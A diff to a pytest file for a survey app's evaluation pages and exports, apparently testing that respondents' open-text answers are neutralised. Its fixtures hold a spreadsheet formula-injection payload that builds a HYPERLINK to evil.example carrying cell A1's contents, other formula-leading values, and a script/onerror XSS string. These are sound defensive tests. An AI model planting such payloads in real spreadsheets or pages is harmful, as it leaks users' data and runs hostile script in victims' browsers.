@@ -5,29 +5,23 @@ import io
 
 import openpyxl
 import pytest
-from evaluate_helpers import Maker, elder, open_store
+from evaluate_helpers import Maker, elder
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-1", "@SUM(A1:A9)"]
 SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
 
 
 @pytest.fixture
-def store(app):
-    """The app's database on its own connection."""
-    yield from open_store(app)
-
-
-@pytest.fixture
-def hostile(store):
+def hostile(db):
     """Responses whose open text would run as a formula or as HTML; one tab-led answer stored directly."""
-    make = Maker(store)
+    make = Maker(db)
     ids = [make.add(elder(suggestion=text)) for text in HOSTILE]
     ids.append(make.add(elder(suggestion=SCRIPT, services=["hotline"], hotline_unanswered="1")))
     # The respondent pages strip whitespace; an older import could still hold a leading tab.
     tabbed = make.add(elder())
-    store.execute("insert into answers (response_id, question_id, value) values (?, 'suggestion', ?)",
+    db.execute("insert into answers (response_id, question_id, value) values (?, 'suggestion', ?)",
                   [tabbed, "\tx"])
-    store.conn.commit()
+    db.conn.commit()
     return ids
 
 
@@ -78,7 +72,7 @@ def test_html_in_open_text_is_escaped(hostile, login, path):
     assert "1 人回答“是”" in page.text  # the unanswered-hotline count, with that respondent's text
 
 
-def test_exports_are_audited(hostile, login, store):
+def test_exports_are_audited(hostile, login, db):
     login("evaluator").get("/evaluate/elder-satisfaction/export/responses.csv").get_data()
-    actions = [row[0] for row in store.execute("select action from audit_log")]
+    actions = [row[0] for row in db.execute("select action from audit_log")]
     assert "export_responses" in actions
